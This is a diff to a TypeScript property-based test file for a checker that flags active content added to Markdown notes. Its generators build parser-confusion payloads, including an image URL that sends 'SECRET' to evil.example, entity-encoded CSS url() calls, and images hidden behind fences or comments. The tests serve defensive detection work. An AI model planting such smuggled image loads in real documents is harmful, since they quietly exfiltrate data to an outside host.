@@ -1,25 +1,22 @@
 /** Active content that one parser sees and another takes for part of something else. */
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { activeContent, addedActiveContent } from '#policy/active/active-content';
-import { address, asks, everyVariantAsks, place, placed } from './active-variants';
+import { address, addedParts, everyVariantIsUncertain, placed } from './uncertain-variants';
 
 const IMAGE = '![x](https://evil.example/p.png?q=SECRET)';
 
 /** An address without escapes, for HTML. */
 const plainAddress = address.filter((each) => !/[\\&]/.test(each));
 
-/** Checks that a change of the end of active content in a note asks, in generated notes. */
-function everyRedirectionAsks(note: fc.Arbitrary<(end: string) => string>): void {
+/** Checks that a change of the end of such text is uncertain, in generated notes. */
+function everyRedirectionIsUncertain(note: fc.Arbitrary<(end: string) => string>): void {
   const seen = new Set<string>();
   fc.assert(
     fc.property(note, (write) => {
       const [before, after] = [write('one'), write('two')];
       seen.add(before);
-      expect(addedActiveContent('Note.md', before, before.replace('Words', 'More words'))).toEqual(
-        [],
-      );
-      expect(addedActiveContent('Note.md', before, after)).not.toEqual([]);
+      expect(addedParts('Note.md', before, before.replace('Words', 'More words'))).toEqual([]);
+      expect(addedParts('Note.md', before, after)).not.toEqual([]);
     }),
     { numRuns: 150 },
   );
@@ -27,7 +24,7 @@ function everyRedirectionAsks(note: fc.Arbitrary<(end: string) => string>): void
 }
 
 describe('text that is read in several ways', () => {
-  test('an element asks whose attributes contain what looks like another tag', () => {
+  test('an element is uncertain whose attributes contain what looks like another tag', () => {
     const inner = fc.constantFrom(
       '<x.y ',
       '<a.b',
@@ -51,10 +48,10 @@ describe('text that is read in several ways', () => {
         (each) =>
           `<${each.name} ${each.harmless}=${each.quote}${each.before}${each.inner.replace('"', each.quote === '"' ? "'" : '"')}${each.quote} src=${each.quote}${each.address}${each.quote}>`,
       );
-    everyVariantAsks(placed(element));
+    everyVariantIsUncertain(placed(element));
   });
 
-  test('an element asks whose attributes are apart by blanks that HTML does not know', () => {
+  test('an element is uncertain whose attributes are apart by blanks that HTML does not know', () => {
     const element = fc
       .record({
         blank: fc.constantFrom('\u00a0', '\u2003', '\u3000', '\u2028', '\u000b'),
@@ -65,10 +62,10 @@ describe('text that is read in several ways', () => {
       .map(
         (each) => `<img alt=${each.blank}${each.quote}${each.words} src=${each.address} title=x>`,
       );
-    everyVariantAsks(placed(element));
+    everyVariantIsUncertain(placed(element));
   });
 
-  test('a style asks that is written with named entities', () => {
+  test('a style is uncertain that is written with named entities', () => {
     const value = fc.constantFrom(
       'url&lpar;https:evil.example)',
       'url&#40;https:evil.example)',
@@ -82,10 +79,10 @@ describe('text that is read in several ways', () => {
         value,
       })
       .map(({ name, attribute, value: to }) => `<svg><${name} ${attribute}="${to}"/></svg>`);
-    everyVariantAsks(placed(element));
+    everyVariantIsUncertain(placed(element));
   });
 
-  test('an image asks that follows a code fence within a comment', () => {
+  test('an image is uncertain that follows a code fence within a comment', () => {
     const fence = fc.constantFrom('```', '~~~', '````js', '```text');
     const note = fc
       .record({
@@ -99,10 +96,10 @@ describe('text that is read in several ways', () => {
         (each) =>
           `${each.open}${each.gap}${each.fence}${each.gap}${each.close}\n\n${IMAGE}\n${each.after}`,
       );
-    everyVariantAsks(note);
+    everyVariantIsUncertain(note);
   });
 
-  test('an image asks that follows a backtick within a comment', () => {
+  test('an image is uncertain that follows a backtick within a comment', () => {
     const note = fc
       .record({
         open: fc.constantFrom('%%', '%% a', 'a %% b'),
@@ -113,10 +110,10 @@ describe('text that is read in several ways', () => {
       .map(
         ({ open, code, words, gap }) => `${open}${gap}b ${code}${words} %% ${IMAGE} ${code} c\n`,
       );
-    everyVariantAsks(note);
+    everyVariantIsUncertain(note);
   });
 
-  test('an image by reference asks whose label begins with a caret', () => {
+  test('an image by reference is uncertain whose label begins with a caret', () => {
     const image = fc
       .record({
         label: fc.constantFrom('^a b', '^', '^1 2', '^ß x', '^a\nb'),
@@ -128,8 +125,8 @@ describe('text that is read in several ways', () => {
         const images = [`![x][${label}]`, `![${label}]`, `![${label}][]`, `![a [b]][${label}]`];
         return `${images[form] ?? ''}\n\n[${label}]:${gap}${to}`;
       });
-    everyVariantAsks(image);
-    everyVariantAsks(
+    everyVariantIsUncertain(image);
+    everyVariantIsUncertain(
       fc
         .record({
           alt: fc.constantFrom('', 'x', 'a b'),
@@ -140,7 +137,7 @@ describe('text that is read in several ways', () => {
     );
   });
 
-  test('an image asks within what looks like the title of another', () => {
+  test('an image is uncertain within what looks like the title of another', () => {
     const image = fc
       .record({
         target: fc.constantFrom('a(', 'a.png', '(a', 'a(b(c)', '<a', 'x)('),
@@ -152,7 +149,7 @@ describe('text that is read in several ways', () => {
         ({ target, quote, words, address: to }) =>
           `![x](${target} ${quote}${words}![y](${to})${quote})`,
       );
-    everyVariantAsks(placed(image));
+    everyVariantIsUncertain(placed(image));
   });
 });
 
@@ -160,8 +157,8 @@ describe('text that redirects what a note loads', () => {
   const length = fc.integer({ min: 0, max: 600 });
   const long = (count: number) => 'a'.repeat(count);
 
-  test('a change at the end of an address asks however long the address is', () => {
-    everyRedirectionAsks(
+  test('a change at the end of an address is uncertain however long the address is', () => {
+    everyRedirectionIsUncertain(
       fc.record({ length, form: fc.nat(6) }).map(({ length: count, form }) => (end: string) => {
         const to = `https://evil.example/${long(count)}`;
         const forms = [
@@ -178,8 +175,8 @@ describe('text that redirects what a note loads', () => {
     );
   });
 
-  test('a change of a block that runs asks also below a fence in a deeper quote or list', () => {
-    everyRedirectionAsks(
+  test('a change of a block that runs is uncertain also below a fence in a deeper quote or list', () => {
+    everyRedirectionIsUncertain(
       fc
         .record({
           language: fc.constantFrom('dataviewjs', 'js-engine', 'button'),
@@ -195,35 +192,18 @@ describe('text that redirects what a note loads', () => {
     );
   });
 
-  test('a change below a block that runs does not ask', () => {
+  test('a change below a block that runs is certain', () => {
     fc.assert(
-      fc.property(place, fc.constantFrom('```', '~~~~'), (put, marks) => {
-        const block = put(`${marks}dataviewjs\nx\n${marks}`);
-        const [before, after] = [`${block}\n\nWords.\n`, `${block}\n\nMore words.\n`];
-        expect(addedActiveContent('Note.md', before, after)).toEqual([]);
-      }),
+      fc.property(
+        fc.constantFrom('', '> ', '- ', '  ', '1. '),
+        fc.constantFrom('```', '~~~~'),
+        (put, marks) => {
+          const inner = put.replace(/[-1.]/g, ' ');
+          const block = `${put}${marks}dataviewjs\n${inner}x\n${inner}${marks}`;
+          const [before, after] = [`${block}\n\nWords.\n`, `${block}\n\nMore words.\n`];
+          expect(addedParts('Note.md', before, after)).toEqual([]);
+        },
+      ),
     );
-  });
-});
-
-describe('ordinary text that looks like active content', () => {
-  test.each([
-    '![](R&D.png) ![](Q&A/photo.jpg) ![](a&amp;b.png)',
-    '<img src="R&D.png">',
-    'Look![1] See [the page](https://example.org).',
-    'Great![^1] See [the page](https://example.org).\n\n[^1]: https://example.org/page',
-    'Look![1]\n\n[2]: https://example.org/page',
-    '<p onenote="x"> and <span once="1">',
-    '---\nauthor: @bob\nsource: https://example.org/page\n---\n',
-    '---\ntitle: `code`\nsource: https://example.org/page\n---\n',
-    '```mermaid\ngraph TD\nA[<b>Bold</b>] -->|click here| B[Then click]\n```',
-    '```mermaid\nsequenceDiagram\nA->>B: click the <i>button</i>\n```',
-    '%% a comment %%\n\n```html\n<img src="https://example.org/x.png">\n```\n\n%% another %%',
-    '%%\nhidden\n%%\n\n```js\nconst a = "<img src=//example.org>";\n```\n\n%%\nhidden\n%%\n',
-    '```mermaid\ngraph TD\n%% a comment\nA --> B\n```\n\n```html\n<img src="https://example.org/x">\n```\n\n%% b %%',
-    '---\ntopic: https://example.org\nepic: https://example.org\nheaders: https://example.org\n---\n',
-  ])('%j does not ask', (text) => {
-    expect(activeContent('Note.md', text)).toEqual([]);
-    expect(asks(`${text}\n`)).toBe(false);
   });
 });
